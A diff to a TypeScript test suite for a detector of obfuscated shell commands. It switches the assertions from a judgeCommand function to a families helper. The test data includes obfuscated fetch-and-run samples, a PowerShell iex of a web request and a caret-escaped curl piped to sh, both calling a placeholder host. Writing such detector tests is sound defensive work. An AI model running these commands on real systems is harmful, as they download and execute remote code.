@@ -2,7 +2,7 @@
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import { occurrences } from '../../../lib/detector/occurrence.ts';
-import { judgeCommand, OBFUSCATED_RULES } from '../../../lib/detector/rules/obfuscated.ts';
+import { OBFUSCATED_RULES } from '../../../lib/detector/rules/obfuscated.ts';
 
 const obfuscated = suite('obfuscated commands');
 
@@ -32,7 +32,7 @@ obfuscated('are judged by what a shell would run', () => {
     ["&('i'+'ex') (iwr http://x.example/a)", 'pipe_to_shell'],
     ['c^url http://x.example/a ^| sh', 'pipe_to_shell'],
   ] as const) {
-    assert.is(judgeCommand(command), family, command);
+    assert.equal(families(command), [family], command);
   }
 });
 
@@ -46,7 +46,7 @@ obfuscated('are nothing where a command is plain, or harmless however it is writ
     'eval "$(ssh-agent -s)"',
     'IFS=,; echo $HOME',
   ]) {
-    assert.is(judgeCommand(command), undefined, command);
+    assert.equal(families(command), [], command);
   }
 });
 
